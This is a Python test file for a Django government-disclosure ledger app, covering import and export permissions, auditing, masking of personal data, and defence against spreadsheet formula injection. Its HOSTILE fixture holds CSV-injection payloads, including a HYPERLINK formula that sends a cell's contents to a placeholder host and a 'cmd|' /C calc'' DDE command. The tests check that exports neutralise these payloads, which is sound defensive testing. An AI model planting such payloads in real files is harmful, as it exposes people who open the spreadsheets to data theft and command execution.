"""Who may import and export unmasked, what is audited, and exports that are safe to open."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.contrib.auth.models import AnonymousUser, User
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from gongkai.agencies.choices import Role
from gongkai.agencies.models import StaffRole
from gongkai.applications.models import Application, ApplicationEvent
from gongkai.audit.models import AuditEntry
from gongkai.ledger import (
    HEADERS,
    ImportLedger,
    LedgerError,
    LedgerForbidden,
    export_ledger,
    import_ledger,
)
from tests.annual_helpers import HEADER, make_agency

# The register's "today" is frozen (tests/ledger/conftest.py).
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("register_today")]

RESIDENT_ID = "11010519491231002X"
ROW = f"A-1,2023-05-06,互联网,自然人,张三,{RESIDENT_ID},13812345678,申请公开某文件,予以公开,2023-05-20"
# Values a spreadsheet would run as formulas (OWASP's CSV injection), one per cell kind.
HOSTILE = {
    "reference": "-2+3",
    "applicant_name": '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "applicant_contact": "+86 138 1234 5678",
}


@pytest.fixture
def offices():
    government = make_agency("示范区人民政府", "GOV")
    return (
        government,
        make_agency("示范区教育局", "EDU", government),
        make_agency("示范区卫健委", "WJW", government),
    )


def _user(name: str, agency=None, role: str = "", **flags: bool) -> User:
    user = User.objects.create_user(name, password="x", **flags)
    if agency is not None:
        StaffRole.objects.create(user=user, agency=agency, role=role)
    return user


def _csv(*rows: str) -> bytes:
    return ("\r\n".join([HEADER, *rows]) + "\r\n").encode()


@pytest.mark.parametrize(
    ("who", "allowed"),
    [
        ("registrar here", True),
        ("administrator above", True),
        ("superuser", True),
        ("handler here", False),
        ("office head here", False),
        ("supervisor above", False),
        ("registrar of a sibling", False),
        ("anonymous", False),
    ],
)
def test_who_may_import(offices, who: str, allowed: bool) -> None:
    government, education, health = offices
    actor = {
        "registrar here": lambda: _user("r", education, Role.REGISTRAR),
        "administrator above": lambda: _user("a", government, Role.ADMINISTRATOR),
        "superuser": lambda: _user("s", is_superuser=True),
        "handler here": lambda: _user("h", education, Role.HANDLER),
        "office head here": lambda: _user("o", education, Role.OFFICE_HEAD),
        "supervisor above": lambda: _user("v", government, Role.SUPERVISOR),
        "registrar of a sibling": lambda: _user("x", health, Role.REGISTRAR),
        "anonymous": AnonymousUser,
    }[who]()
    assert ImportLedger.allowed(actor, education) is allowed
    if allowed:
        assert import_ledger(education, _csv(ROW), "台账.csv", actor=actor).imported == 1
        return
    with pytest.raises(LedgerForbidden) as excinfo:
        import_ledger(education, _csv(ROW), "台账.csv", actor=actor)
    assert excinfo.value.code == "forbidden"
    assert excinfo.value.problems == ("无权导入台账：须由示范区教育局的登记员或管理员办理。",)
    assert not Application.objects.exists()


def test_an_import_records_the_user_on_every_event_and_one_audit_entry(offices) -> None:
    _, education, _ = offices
    registrar = _user("r", education, Role.REGISTRAR)
    second = ROW.replace("A-1", "A-2")
    result = import_ledger(education, _csv(ROW, second), "台账.csv", actor=registrar)
    assert (result.read, result.imported, result.refused, result.problems) == (2, 2, 0, ())
    events = ApplicationEvent.objects.order_by("application__reference")
    assert [(e.kind, e.actor, e.payload["line"]) for e in events] == [
        ("registered", registrar, 2),
        ("registered", registrar, 3),
    ]
    assert "system" not in events[0].payload
    assert events[0].after["status"] == "closed"
    (entry,) = AuditEntry.objects.filter(action="ledger_import")
    assert (entry.actor, entry.agency, entry.system) == (registrar, education, "")
    assert entry.after == {"file": "台账.csv", "read": 2, "imported": 2}
    # A refused import writes nothing at all, audit included.
    with pytest.raises(LedgerError):
        import_ledger(education, _csv(ROW), "台账.csv", actor=registrar)
    assert AuditEntry.objects.filter(action="ledger_import").count() == 1


def test_exports_are_masked_by_default_and_cannot_be_reimported(offices) -> None:
    _, education, health = offices
    import_ledger(education, _csv(ROW), "台账.csv", actor=None)
    data = export_ledger(Application.objects.all(), "csv")
    (row,) = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    assert row[5:7] == ["1101**********002X", "138****5678"]
    assert not AuditEntry.objects.filter(action="ledger_export_unmasked").exists()
    with pytest.raises(LedgerError) as excinfo:
        import_ledger(health, data.replace(b"A-1", b"B-1"), "masked.csv", actor=None)
    assert excinfo.value.problems == (
        "第 2 行：联系方式“138****5678”是遮蔽后的内容，不能导入（请使用未遮蔽的导出文件）；"
        "证件号码“1101**********002X”是遮蔽后的号码，不能导入（迁移数据请使用未遮蔽的导出文件）。",
    )


def test_an_unmasked_export_needs_the_right_role_and_is_audited(offices) -> None:
    government, education, _ = offices
    import_ledger(education, _csv(ROW), "台账.csv", actor=None)
    queryset = Application.objects.filter(agency=education)
    registrar = _user("r", education, Role.REGISTRAR)
    with pytest.raises(LedgerForbidden) as excinfo:
        export_ledger(queryset, "csv", masked=False, actor=registrar, agency=education)
    assert excinfo.value.problems == (
        "无权导出未遮蔽的台账：须由示范区教育局的公开办负责人或管理员导出。",
    )
    head = _user("o", education, Role.OFFICE_HEAD)
    data = export_ledger(queryset, "xlsx", masked=False, actor=head, agency=education)
    cells = [c.value for c in next(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))]
    assert cells[5:7] == [RESIDENT_ID, "13812345678"]
    (entry,) = AuditEntry.objects.filter(action="ledger_export_unmasked")
    assert (entry.actor, entry.agency, entry.after) == (
        head,
        education,
        {"format": "xlsx", "rows": 1},
    )
    with pytest.raises(ValueError, match="names the agency"):
        export_ledger(queryset, "csv", masked=False, actor=head)
    assert government is not None


def _hostile(education) -> None:
    row = ROW.split(",")
    row[0] = HOSTILE["reference"]
    row[4] = '"' + HOSTILE["applicant_name"].replace('"', '""') + '"'
    row[6] = HOSTILE["applicant_contact"]
    row[7] = HOSTILE["description"]
    row[5] = ""
    import_ledger(education, _csv(",".join(row)), "台账.csv", actor=None)


def test_csv_export_neutralises_formulas_and_carries_a_bom(offices) -> None:
    _, education, _ = offices
    _hostile(education)
    data = export_ledger(Application.objects.all(), "csv", masked=False, agency=education)
    assert data.startswith(b"\xef\xbb\xbf" + HEADER.encode())
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(header) == HEADERS
    assert row[0] == "'" + HOSTILE["reference"]
    assert row[4] == "'" + HOSTILE["applicant_name"]
    assert row[6] == "'" + HOSTILE["applicant_contact"]
    assert row[7] == "'" + HOSTILE["description"]
    assert row[1] == "2023-05-06"  # harmless cells are as they were


def test_xlsx_export_writes_strings_never_formulas(offices) -> None:
    _, education, _ = offices
    _hostile(education)
    data = export_ledger(Application.objects.all(), "xlsx", masked=False, agency=education)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    row = next(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    # Shared or inline strings (openpyxl writes both), never "f" (a formula).
    assert {c.data_type for c in row} <= {"s", "inlineStr"}
    assert row[4].value == "'" + HOSTILE["applicant_name"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_neutralised_cells_round_trip_exactly(offices, fmt: str) -> None:
    _, education, health = offices
    _hostile(education)
    fields = ("reference", "applicant_name", "applicant_contact", "description")
    before = Application.objects.values_list(*fields).get()
    assert before == tuple(HOSTILE[f] for f in fields)
    data = export_ledger(Application.objects.all(), fmt, masked=False, agency=education)  # type: ignore[arg-type]
    ApplicationEvent.objects.all().delete()
    Application.objects.all().delete()
    import_ledger(health, data, f"export.{fmt}", actor=None)
    assert Application.objects.values_list(*fields).get() == before


def test_the_command_reports_counts_and_refuses_with_exit_2(offices, tmp_path) -> None:
    _, education, _ = offices
    good = tmp_path / "台账.csv"
    good.write_bytes(_csv(ROW, ROW.replace("A-1", "A-2")))
    out = io.StringIO()
    call_command("import_ledger", "EDU", str(good), stdout=out)
    assert out.getvalue() == "已导入 2 件申请到示范区教育局（读取 2 行，导入 2 行，拒绝 0 行）。\n"
    with pytest.raises(CommandError) as excinfo:
        call_command("import_ledger", "EDU", str(good), stdout=io.StringIO())
    assert excinfo.value.returncode == 2
    assert str(excinfo.value) == (
        "台账未导入：共读取 2 行，其中 2 行有问题，全部未导入。\n"
        "第 2 行：编号“A-1”已在系统中登记。\n"
        "第 3 行：编号“A-2”已在系统中登记。"
    )
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    with pytest.raises(CommandError, match=r"^台账未导入：文件是空的，没有表头也没有数据。$"):
        call_command("import_ledger", "EDU", str(empty), stdout=io.StringIO())
    registrar = _user("r", education, Role.REGISTRAR)
    third = tmp_path / "third.csv"
    third.write_bytes(_csv(ROW.replace("A-1", "A-3")))
    call_command("import_ledger", "EDU", str(third), "--user", "r", stdout=io.StringIO())
    assert ApplicationEvent.objects.get(application__reference="A-3").actor == registrar
    _user("h", education, Role.HANDLER)
    with pytest.raises(
        CommandError, match=r"^无权导入台账：须由示范区教育局的登记员或管理员办理。$"
    ):
        call_command("import_ledger", "EDU", str(third), "--user", "h", stdout=io.StringIO())
